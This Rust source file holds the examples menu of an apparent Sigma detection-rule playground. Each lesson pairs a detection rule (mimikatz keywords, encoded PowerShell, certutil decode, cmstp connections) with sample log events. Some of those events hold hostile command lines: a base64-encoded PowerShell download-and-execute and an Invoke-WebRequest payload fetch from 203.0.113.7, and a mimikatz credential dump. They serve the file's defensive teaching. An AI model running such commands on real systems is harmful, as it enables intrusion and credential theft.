//! The examples menu: short lessons written for this project, each a rule with events (and the
//! expectations that show the point, so every lesson is also a passing rule test). The first is
//! the default example shown on first load: the rule given by the user, with events written here.

use crate::state::Workspace;
use std::collections::BTreeMap;

pub struct Example {
    pub id: &'static str,
    pub title: &'static str,
    /// The point of the lesson in one or two sentences.
    pub lesson: &'static str,
    pub rule: &'static str,
    pub events: &'static str,
    /// (event index, should fire)
    pub expectations: &'static [(usize, bool)],
    pub placeholders: &'static [(&'static str, &'static [&'static str])],
}

impl Example {
    pub fn workspace(&self) -> Workspace {
        Workspace {
            rule: self.rule.into(),
            events: self.events.into(),
            expectations: self.expectations.iter().copied().collect(),
            placeholders: self
                .placeholders
                .iter()
                .map(|(k, v)| (k.to_string(), v.iter().map(|s| s.to_string()).collect()))
                .collect::<BTreeMap<_, _>>(),
            logsource_check: false,
            name: Some(self.title.to_string()),
        }
    }
}

pub fn find(id: &str) -> Option<&'static Example> {
    EXAMPLES.iter().find(|e| e.id == id)
}

pub fn default_example() -> &'static Example {
    &EXAMPLES[0]
}

pub static EXAMPLES: &[Example] = &[
    Example {
        id: "cmstp",
        title: "Cmstp.EXE outbound connection (the seed rule)",
        lesson: "A selection AND NOT a set of filters: only the connection to a public address fires; \
                 the 10.x and IPv6 link-local ones are stopped by filter_main_local_ranges.",
        rule: CMSTP_RULE,
        events: CMSTP_EVENTS,
        expectations: &[(0, true), (1, false), (2, false), (3, false), (4, false)],
        placeholders: &[],
    },
    Example {
        id: "keywords",
        title: "Keywords: a list without a field",
        lesson: "A search identifier that is a plain list has no field: each value is looked for in \
                 every field of the event. Values are whole-value patterns, so `*` makes them 'contains'.",
        rule: r#"title: Mimikatz Module Names In Any Field
id: fb529b15-44de-459f-a4e1-b87fee20089b
status: experimental
description: Lesson rule. Keywords search every field of the event.
author: Sigma Playground
date: 2025-01-15
logsource:
    category: process_creation
    product: windows
detection:
    keywords:
        - '*sekurlsa::logonpasswords*'
        - '*lsadump::sam*'
    condition: keywords
level: high
"#,
        events: r#"{"EventID": 1, "Image": "C:\\Users\\Public\\m64.exe", "CommandLine": "m64.exe privilege::debug sekurlsa::logonpasswords exit"}
{"EventID": 1, "Image": "C:\\Tools\\notes.exe", "CommandLine": "notes.exe", "Description": "dumps lsadump::sam for the lab"}
{"EventID": 1, "Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami /all"}
"#,
        expectations: &[(0, true), (1, true), (2, false)],
        placeholders: &[],
    },
    Example {
        id: "one-of-vs-all-of",
        title: "1 of selection_* vs all of selection_*",
        lesson: "`1 of selection_*` is true when any selection named selection_... is; `all of selection_*` \
                 needs every one. Change the condition to `all of selection_*` and watch event 2 stop firing.",
        rule: r#"title: Encoded PowerShell Command Line
id: d0c3e1ab-5030-4d14-a143-b9e529daadd4
status: experimental
description: Lesson rule. Compare '1 of selection_*' with 'all of selection_*'.
author: Sigma Playground
date: 2025-01-15
logsource:
    category: process_creation
    product: windows
detection:
    selection_image:
        Image|endswith:
            - '\powershell.exe'
            - '\pwsh.exe'
    selection_encoded:
        CommandLine|contains:
            - ' -enc '
            - ' -EncodedCommand '
    condition: 1 of selection_*
level: medium
"#,
        events: r#"{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -nop -enc SQBFAFgA"}
{"Image": "C:\\Program Files\\PowerShell\\7\\pwsh.exe", "CommandLine": "pwsh.exe -File build.ps1"}
{"Image": "C:\\Windows\\System32\\notepad.exe", "CommandLine": "notepad.exe todo.txt"}
"#,
        expectations: &[(0, true), (1, true), (2, false)],
        placeholders: &[],
    },
    Example {
        id: "not-1-of-filter",
        title: "not 1 of filter_*: exclusions",
        lesson: "`selection and not 1 of filter_*` fires when the selection matches and no filter does. \
                 Each filter_ name is one reason to stay quiet.",
        rule: r#"title: Rundll32 Started From An Unusual Parent
id: 96de5f6f-65e4-4a56-9426-bb04a83f64c3
status: experimental
description: Lesson rule. Filters remove known good activity.
author: Sigma Playground
date: 2025-01-15
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\rundll32.exe'
    filter_main_system_parent:
        ParentImage|startswith:
            - 'C:\Windows\System32\'
            - 'C:\Windows\SysWOW64\'
    filter_optional_control_panel:
        CommandLine|contains: 'shell32.dll,Control_RunDLL'
    condition: selection and not 1 of filter_*
level: medium
"#,
        events: r#"{"Image": "C:\\Windows\\System32\\rundll32.exe", "ParentImage": "C:\\Users\\eve\\Downloads\\invoice.exe", "CommandLine": "rundll32.exe C:\\Users\\eve\\AppData\\Local\\Temp\\x.dll,Start"}
{"Image": "C:\\Windows\\System32\\rundll32.exe", "ParentImage": "C:\\Windows\\System32\\svchost.exe", "CommandLine": "rundll32.exe C:\\Windows\\System32\\ieframe.dll,OpenURL"}
{"Image": "C:\\Windows\\System32\\rundll32.exe", "ParentImage": "C:\\Program Files\\Explorer++\\explorer++.exe", "CommandLine": "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"}
"#,
        expectations: &[(0, true), (1, false), (2, false)],
        placeholders: &[],
    },
    Example {
        id: "windash",
        title: "windash: -flag, /flag and dash look-alikes",
        lesson: "Windows tools accept /decode as well as -decode, and attackers use en and em dashes. \
                 `|windash` expands a leading - or / into all five variants.",
        rule: r#"title: Certutil Decode With Any Dash
id: bacf9fda-6149-48ff-bb9f-993b5028d59d
status: experimental
description: Lesson rule. The windash modifier.
author: Sigma Playground
date: 2025-01-15
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith: '\certutil.exe'
        CommandLine|windash|contains: ' -decode '
    condition: selection
level: medium
"#,
        events: r#"{"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe -decode in.txt out.exe"}
{"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe /decode in.txt out.exe"}
{"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe –decode in.txt out.exe"}
{"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe -hashfile in.txt SHA256"}
"#,
        expectations: &[(0, true), (1, true), (2, true), (3, false)],
        placeholders: &[],
    },
    Example {
        id: "base64offset",
        title: "base64offset: a word inside base64",
        lesson: "A word inside base64-encoded text looks different depending on where it starts. \
                 `|base64offset|contains` searches for all three encodings; add `|wide` for UTF-16 (PowerShell -enc).",
        rule: r#"title: Base64 Encoded DownloadString
id: f7d7e69a-4801-461e-8286-15ab7e31961f
status: experimental
description: Lesson rule. base64offset with and without wide.
author: Sigma Playground
date: 2025-01-15
logsource:
    category: process_creation
    product: windows
detection:
    selection_utf8:
        CommandLine|base64offset|contains: 'DownloadString'
    selection_utf16:
        CommandLine|wide|base64offset|contains: 'DownloadString'
    condition: 1 of selection_*
level: high
"#,
        events: r#"{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMjAzLjAuMTEzLjcvYS5wczEnKQ==')))\""}
{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAuAHAAcwAxACcAKQA="}
{"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": "powershell.exe -c \"[Convert]::FromBase64String('V3JpdGUtT3V0cHV0ICJiYWNrdXAgZmluaXNoZWQi')\""}
"#,
        expectations: &[(0, true), (1, true), (2, false)],
        placeholders: &[],
    },
    Example {
        id: "cidr",
        title: "cidr: address ranges, IPv4 and IPv6",
        lesson: "`|cidr` matches an address inside a network. A value that is not an IP address never matches.",
        rule: r#"title: RDP To The Management Networks
id: c23cf0e5-df07-496f-ae67-e26a893625ef
status: experimental
description: Lesson rule. The cidr modifier (documentation address ranges).
author: Sigma Playground
date: 2025-01-15
logsource:
    category: network_connection
    product: windows
detection:
    selection:
        DestinationPort: 3389
        DestinationIp|cidr:
            - '192.0.2.0/24'
            - '2001:db8:10::/48'
    condition: selection
level: low
"#,
        events: r#"{"Image": "C:\\Windows\\System32\\mstsc.exe", "DestinationIp": "192.0.2.44", "DestinationPort": 3389}
{"Image": "C:\\Windows\\System32\\mstsc.exe", "DestinationIp": "2001:db8:10:4::21", "DestinationPort": 3389}
{"Image": "C:\\Windows\\System32\\mstsc.exe", "DestinationIp": "198.51.100.9", "DestinationPort": 3389}
{"Image": "C:\\Windows\\System32\\mstsc.exe", "DestinationIp": "jump-host", "DestinationPort": 3389}
"#,
        expectations: &[(0, true), (1, true), (2, false), (3, false)],
        placeholders: &[],
    },
    Example {
        id: "regex-flags",
        title: "re with flags: |re|i",
        lesson: "`|re` is a regular expression searched in the value, case-sensitive unless `|i` is added \
                 (`|m` multi-line, `|s` dot matches newline).",
        rule: r#"title: PowerShell Web Request Cmdlets
id: a1ac5451-1891-4071-8389-b332a0e5d7bb
status: experimental
description: Lesson rule. Regular expressions and the i flag.
author: Sigma Playground
date: 2025-01-15
logsource:
    category: ps_script
    product: windows
detection:
    selection:
        ScriptBlockText|re|i: 'invoke-(webrequest|restmethod)\s+-uri'
    condition: selection
level: medium
"#,
        events: r#"{"ScriptBlockText": "Invoke-WebRequest -Uri http://203.0.113.7/p.exe -OutFile p.exe"}
{"ScriptBlockText": "INVOKE-RESTMETHOD   -URI https://198.51.100.2/api"}
{"ScriptBlockText": "Invoke-Item -Path report.xlsx"}
"#,
        expectations: &[(0, true), (1, true), (2, false)],
        placeholders: &[],
    },
    Example {
        id: "null-vs-exists",
        title: "null, '' and exists",
        lesson: "`Field: null` is true when the field is missing or JSON null; `Field: ''` when it is present \
                 and empty; `Field|exists: false` only when it is missing.",
        rule: r#"title: Unsigned Binary Without Company Metadata
id: 6775f7ab-9295-4a4e-b6da-95dbd2984f71
status: experimental
description: Lesson rule. null, empty string and exists.
author: Sigma Playground
date: 2025-01-15
logsource:
    category: image_load
    product: windows
detection:
    selection:
        Signed: 'false'
    company_missing:
        Company|exists: false
    company_null_or_empty:
        - Company: null
        - Company: ''
    condition: selection and (company_missing or company_null_or_empty)
level: low
"#,
        events: r#"{"ImageLoaded": "C:\\Users\\bob\\AppData\\Local\\Temp\\a.dll", "Signed": "false"}
{"ImageLoaded": "C:\\Users\\bob\\AppData\\Local\\Temp\\b.dll", "Signed": "false", "Company": null}
{"ImageLoaded": "C:\\Users\\bob\\AppData\\Local\\Temp\\c.dll", "Signed": "false", "Company": ""}
{"ImageLoaded": "C:\\Program Files\\Tool\\d.dll", "Signed": "false", "Company": "Example Corp"}
"#,
        expectations: &[(0, true), (1, true), (2, true), (3, false)],
        placeholders: &[],
    },
    Example {
        id: "fieldref",
        title: "fieldref: compare two fields of the event",
        lesson: "`TargetUserName|fieldref: SubjectUserName` is true when both fields hold the same value. \
                 Here it filters out users resetting their own password.",
        rule: r#"title: Password Reset Of Another Account
id: bba9f5b6-52d6-4753-b132-1e27f16d1345
status: experimental
description: Lesson rule. The fieldref modifier.
author: Sigma Playground
date: 2025-01-15
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4724
    filter_same_account:
        TargetUserName|fieldref: SubjectUserName
    condition: selection and not filter_same_account
level: low
"#,
        events: r#"{"EventID": 4724, "SubjectUserName": "helpdesk01", "TargetUserName": "carol"}
{"EventID": 4724, "SubjectUserName": "dave", "TargetUserName": "dave"}
{"EventID": 4720, "SubjectUserName": "helpdesk01", "TargetUserName": "newhire"}
"#,
        expectations: &[(0, true), (1, false), (2, false)],
        placeholders: &[],
    },
    Example {
        id: "expand",
        title: "Placeholders: |expand with your values",
        lesson: "`|expand` replaces %Name% with values you supply (below the rule editor). Change the \
                 ServiceAccounts placeholder and the filter follows.",
        rule: r#"title: Interactive Logon By A Service Account
id: c138177f-7d5d-429c-9953-1a4b2012b089
status: experimental
description: Lesson rule. Placeholders supplied by the user.
author: Sigma Playground
date: 2025-01-15
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4624
        LogonType: 2
    service_accounts:
        TargetUserName|expand: '%ServiceAccounts%'
    condition: selection and service_accounts
level: medium
"#,
        events: r#"{"EventID": 4624, "LogonType": 2, "TargetUserName": "svc_backup"}
{"EventID": 4624, "LogonType": 2, "TargetUserName": "erin"}
{"EventID": 4624, "LogonType": 3, "TargetUserName": "svc_sql"}
"#,
        expectations: &[(0, true), (1, false), (2, false)],
        placeholders: &[("ServiceAccounts", &["svc_backup", "svc_sql"])],
    },
];

/// The rule given by the user for the first load (its author line kept as given).
const CMSTP_RULE: &str = r#"title: Outbound Network Connection Initiated By Cmstp.EXE
id: efafe0bf-4238-479e-af8f-797bd3490d2d
status: test
description: |
    Detects a network connection initiated by Cmstp.EXE
    Its uncommon for "cmstp.exe" to initiate an outbound network connection. Investigate the source of such requests to determine if they are malicious.
references:
    - https://web.archive.org/web/20190720093911/http://www.endurant.io/cmstp/detecting-cmstp-enabled-code-execution-and-uac-bypass-with-sysmon/
author: Nasreddine Bencherchali (Nextron Systems)
date: 2022-08-30
modified: 2024-05-31
tags:
    - attack.defense-evasion
    - attack.t1218.003
logsource:
    category: network_connection
    product: windows
detection:
    selection:
        Image|endswith: '\cmstp.exe'
        Initiated: 'true'
    filter_main_local_ranges:
        DestinationIp|cidr:
            - '127.0.0.0/8'
            - '10.0.0.0/8'
            - '172.16.0.0/12'
            - '192.168.0.0/16'
            - '169.254.0.0/16'
            - '::1/128'  # IPv6 loopback
            - 'fe80::/10'  # IPv6 link-local addresses
            - 'fc00::/7'  # IPv6 private addresses
    condition: selection and not 1 of filter_main_*
falsepositives:
    - Unknown
level: high
"#;

/// Sysmon network connection events (event 3) written for the seed rule: one to a public
/// address (fires), one to 10.x and one to IPv6 link-local (filtered), one not initiated and
/// one from another image (the selection does not take them).
const CMSTP_EVENTS: &str = r#"{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "UtcTime": "2025-01-14 09:12:44.101", "Image": "C:\\Windows\\System32\\cmstp.exe", "User": "CORP\\alice", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.20.30.41", "SourcePort": 50412, "DestinationIp": "203.0.113.45", "DestinationHostname": "files.example.net", "DestinationPort": 443}
{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "UtcTime": "2025-01-14 09:13:02.512", "Image": "C:\\Windows\\System32\\cmstp.exe", "User": "CORP\\alice", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.20.30.41", "SourcePort": 50415, "DestinationIp": "10.1.2.3", "DestinationHostname": "fileserver.corp.example", "DestinationPort": 445}
{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "UtcTime": "2025-01-14 09:13:40.007", "Image": "C:\\Windows\\System32\\cmstp.exe", "User": "CORP\\alice", "Protocol": "udp", "Initiated": "true", "SourceIp": "fe80::a1b2:c3d4:e5f6:1234", "SourcePort": 5355, "DestinationIp": "fe80::1c2d:3e4f:5a6b:7c8d", "DestinationPort": 5355}
{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "UtcTime": "2025-01-14 09:14:11.930", "Image": "C:\\Windows\\System32\\cmstp.exe", "User": "CORP\\alice", "Protocol": "tcp", "Initiated": "false", "SourceIp": "203.0.113.45", "SourcePort": 443, "DestinationIp": "10.20.30.41", "DestinationPort": 50500}
{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "UtcTime": "2025-01-14 09:15:27.288", "Image": "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "User": "CORP\\alice", "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.20.30.41", "SourcePort": 50611, "DestinationIp": "203.0.113.45", "DestinationHostname": "files.example.net", "DestinationPort": 443}
"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn examples_have_unique_ids_and_valid_expectations() {
        let mut ids: Vec<&str> = EXAMPLES.iter().map(|e| e.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), EXAMPLES.len());
        for example in EXAMPLES {
            let events = example.events.lines().count();
            for &(index, _) in example.expectations {
                assert!(
                    index < events,
                    "{}: expectation for event {index} of {events}",
                    example.id
                );
            }
        }
        assert!(default_example()
            .rule
            .contains("author: Nasreddine Bencherchali (Nextron Systems)"));
    }

    /// Every lesson is a rule test that passes (once the engine evaluates for real).
    #[test]
    fn lessons_pass_their_own_tests() {
        for example in EXAMPLES {
            let report = sigmaplay_ruletest::run(&example.workspace().to_test());
            assert!(report.passed, "lesson {} fails: {:?}", example.id, report);
        }
    }
}
